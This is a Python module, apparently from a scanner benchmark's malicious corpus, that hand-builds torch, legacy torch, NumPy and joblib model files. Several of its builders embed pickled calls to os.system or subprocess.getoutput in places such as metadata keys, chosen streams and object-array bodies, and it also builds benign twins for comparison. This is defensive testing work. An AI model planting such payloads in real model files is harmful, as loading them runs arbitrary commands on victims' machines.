"""Model files to hide things in: torch pickles and zips, legacy torch streams, NumPy and joblib arrays, written by hand."""

from __future__ import annotations

import struct

from benchmarks.corpus.malicious.asm import BINPERSID, STOP, C, Encoder, Raw, S, proto
from benchmarks.corpus.malicious.payloads import COMMAND

EVIL = Encoder(4).dumps(C("os:system", COMMAND))
"""A bare pickle that would run a command."""
EVIL_2 = Encoder(2).dumps({"state": C("subprocess:getoutput", COMMAND), "epoch": 1})
BENIGN = Encoder(4).dumps({"epoch": 3, "loss": [0.5, 0.25], "name": "mlp"})
WEIGHTS = struct.pack("<8f", *(0.125 * i for i in range(8)))
TORCH_MAGIC = 0x1950A86A20F9469CFC6C
TORCH_PROTOCOL = 1001


def tensor(key: str, count: int = 4, *, legacy: bool = False) -> Raw:
    """The opcodes of one float tensor that lives in storage ``key`` of a torch zip (or of a legacy file)."""
    code = Encoder(2, memo=False)
    identity: tuple[object, ...] = ("storage", S("torch:FloatStorage"), key, "cpu", count)
    storage = Raw(code.encode((*identity, None) if legacy else identity) + BINPERSID)
    hooks = C("collections:OrderedDict")
    return Raw(code.encode(C("torch._utils:_rebuild_tensor_v2", storage, 0, (count,), (1,), False, hooks)))


def torch_pickle(*, evil: bool = False) -> bytes:
    """``data.pkl`` of a small state dict, with or without a call that runs a command."""
    code = Encoder(2, memo=False)
    state: dict[object, object] = {"fc.weight": tensor("0"), "fc.bias": tensor("1")}
    if evil:
        state["_metadata"] = C("os:system", COMMAND)
    return proto(2) + code.encode(state) + STOP


def torch_members(pickle: bytes, folder: str = "archive") -> list[tuple[str, bytes]]:
    """Names and contents of a torch zip."""
    return [
        (f"{folder}/data.pkl", pickle),
        (f"{folder}/byteorder", b"little"),
        (f"{folder}/data/0", WEIGHTS[:16]),
        (f"{folder}/data/1", WEIGHTS[16:]),
        (f"{folder}/version", b"3\n"),
        (f"{folder}/.data/serialization_id", b"0636457737946401051300000000000000000000"),
    ]


def torch_legacy(evil_stream: int | None = None, magic: bytes | None = None) -> bytes:
    """A legacy (pre-zip) torch file: five pickles and the raw storages; the call sits in stream ``evil_stream`` (0 to 4)."""
    code = Encoder(2, memo=False)
    values: list[object] = [
        TORCH_MAGIC,
        TORCH_PROTOCOL,
        {"protocol_version": TORCH_PROTOCOL, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}},
        {"weight": tensor("0", legacy=True)},
        ["0"],
    ]
    streams = [proto(2) + code.encode(value) + STOP for value in values]
    if magic is not None:
        streams[0] = magic
    if evil_stream is not None:
        streams[evil_stream] = proto(2) + code.encode([values[evil_stream], C("os:system", COMMAND)]) + STOP
    return b"".join(streams) + struct.pack("<Q", 4) + WEIGHTS[:16]


def npy(header: str, body: bytes, version: tuple[int, int] = (1, 0)) -> bytes:
    """An npy file with any header text."""
    text = header.encode("utf-8" if version >= (3, 0) else "latin1")
    prefix = 8 + (2 if version == (1, 0) else 4)
    text += b" " * (-(prefix + len(text) + 1) % 64) + b"\n"
    size = struct.pack("<H" if version == (1, 0) else "<I", len(text))
    return b"\x93NUMPY" + bytes(version) + size + text + body


def object_npy(payload: bytes = EVIL, version: tuple[int, int] = (1, 0)) -> bytes:
    """An npy file of dtype object: its body is a pickle."""
    return npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", payload, version)


def float_npy() -> bytes:
    """An ordinary npy file."""
    return npy("{'descr': '<f4', 'fortran_order': False, 'shape': (8,), }", WEIGHTS)


def joblib_stream(*, evil: bool) -> bytes:
    """A joblib pickle: an array wrapper, its raw (16-byte aligned) block, then more opcodes."""
    code = Encoder(4, memo=False)
    wrapper = code.encode(C("copyreg:__newobj__", S("joblib.numpy_pickle:NumpyArrayWrapper")))
    state = {
        "subclass": S("numpy:ndarray"),
        "shape": (8,),
        "order": "C",
        "dtype": C("numpy:dtype", "f4", False, True),
        "allow_mmap": True,
        "numpy_array_alignment_bytes": 16,
    }
    head = proto(4) + code.encode({}) + code.encode("coef_") + wrapper + code.encode(state) + b"b"
    padding = (16 - (len(head) + 1) % 16) % 16
    raw = bytes([padding]) + b"\xff" * padding + WEIGHTS
    tail = code.encode("hook") + code.encode(C("os:system", COMMAND)) + b"s" if evil else b""
    return head + raw + b"s" + tail + STOP
